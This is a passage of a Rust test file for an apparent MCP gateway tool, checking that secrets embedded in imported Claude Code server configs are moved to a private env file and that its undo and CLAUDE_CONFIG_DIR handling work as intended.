            && !secrets.contains("\nGITHUB_PERSONAL_ACCESS_TOKEN=")
            && !secrets.contains("\nTRACKER_AUTHORIZATION="),
        "{secrets}"
    );
}

/// Secrets in places no name gives away: a URL in an env value, `-e NAME=value` arguments, a
/// token as a URL's user name or path segment, a password beside a `${…}`, and the names
/// PWD and DSN. None is printed (text or `--json`) or written to gateway.yaml; each is in
/// the private env file.
#[test]
fn hidden_secrets_are_moved_too() {
    let world = World::new();
    let [db_pw, e_api, userinfo, zapier, mixed, mysql, dsn] = HIDDEN else {
        unreachable!()
    };
    world.write(
        &world.home(".claude.json"),
        &json!({"mcpServers": {
            "db": {"command": "db-mcp",
                   "env": {"DATABASE_URL": format!("postgresql://admin:{db_pw}@db/prod"),
                           "MYSQL_PWD": mysql,
                           "SENTRY_DSN": format!("https://{dsn}@o1.ingest.sentry.io/1")}},
            "docker": {"command": "docker",
                       "args": ["run", "-i", "--rm", "-e", format!("API_KEY={e_api}"), "img"]},
            "git": {"command": "git-mcp", "args": [format!("https://{userinfo}@github.com/o/r.git")]},
            "zapier": {"type": "http", "url": format!("https://mcp.zapier.com/api/mcp/s/{zapier}/mcp")},
            "mixed": {"command": "pg-mcp", "args": [format!("postgres://u:{mixed}@${{HOST}}/db")]}
        }})
        .to_string(),
    );
    let shown = world.ok(&["import"]);
    assert!(shown.contains("7 secrets would go to"), "{shown}");
    assert!(
        shown.contains("postgres://u:${MIXED_PASSWORD}@${HOST}/db"),
        "{shown}"
    );
    assert!(
        shown.contains("https://mcp.zapier.com/api/mcp/s/${ZAPIER_URL_TOKEN}/mcp"),
        "{shown}"
    );
    let report = world.json(&["import"]);
    assert_eq!(report["secrets"], 7, "{report}");
    world.ok(&["import", "--write"]);
    let yaml = std::fs::read_to_string(world.user_config()).unwrap();
    no_secret(&yaml);
    let secrets = world.secrets();
    for secret in HIDDEN {
        assert!(secrets.contains(secret), "{secret} not in {secrets}");
    }
    let servers: Vec<String> = world
        .checked_servers()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(servers, ["db", "docker", "git", "mixed", "zapier"]);
}

/// `--undo` after the client changed its file: the servers come back, the client's other
/// changes and the servers the user added since stay, and the file as it was is kept aside.
#[test]
fn undo_keeps_what_the_client_and_the_user_did_since() {
    let world = World::new();
    let file = world.home(".claude.json");
    world.write(&file, &claude_json(&world.project("")));
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    world.ok(&["import", "--from", "claude-code", "--write"]);
    world.ok(&["connect", "claude-code"]);
    let mut value: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    value["numStartups"] = json!(42);
    value["mcpServers"]["added-later"] = json!({"command": "later-mcp", "args": ["x"]});
    let changed = serde_json::to_string_pretty(&value).unwrap();
    std::fs::write(&file, &changed).unwrap();

    let out = world.ok(&["connect", "claude-code", "--undo"]);
    assert!(
        out.contains("added or changed in claude-code since: added-later"),
        "{out}"
    );
    let restored: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(restored["numStartups"], 42);
    let mut names: Vec<&String> = restored["mcpServers"].as_object().unwrap().keys().collect();
    names.sort();
    assert_eq!(
        names,
        ["added-later", "events", "github", "socket", "tracker"]
    );
    let copy = std::fs::read_dir(world.home(""))
        .unwrap()
        .flatten()
        .find(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with(".claude.json.mcpgw-undo-")
        })
        .expect("the file before --undo is kept");
    assert_eq!(std::fs::read_to_string(copy.path()).unwrap(), changed);
    let mode = copy.metadata().unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
}

/// With `CLAUDE_CONFIG_DIR` set, Claude Code keeps `.claude.json` there, not in the home
/// directory: import reads that one and connect edits it.
#[test]
fn claude_config_dir_is_where_claude_code_keeps_its_file() {
    let world = World::new();
    let dir = world.env.path("claude-dir");
    let file = dir.join(".claude.json");
    world.write(
        &file,
        &json!({"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}})
            .to_string(),
    );
    world.write(
        &world.home(".claude.json"),
        &json!({"mcpServers": {"stale": {"command": "stale-mcp"}}}).to_string(),
    );
    let vars = [("CLAUDE_CONFIG_DIR", dir.to_str().unwrap())];
    let report: Value =
        serde_json::from_str(&world.ok_with(&["import", "--from", "claude-code", "--json"], &vars))
            .unwrap();
    assert_eq!(report["added"][0]["name"], "time", "{report}");
    assert_eq!(report["added"].as_array().unwrap().len(), 1, "{report}");
    world.ok_with(&["import", "--from", "claude-code", "--write"], &vars);
    world.ok_with(&["connect", "claude-code"], &vars);
    let connected: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert!(
        connected["mcpServers"].get("mcpgw").is_some(),
        "{connected}"
    );
    assert!(PathBuf::from(format!("{}.mcpgw-backup", file.display())).exists());
}
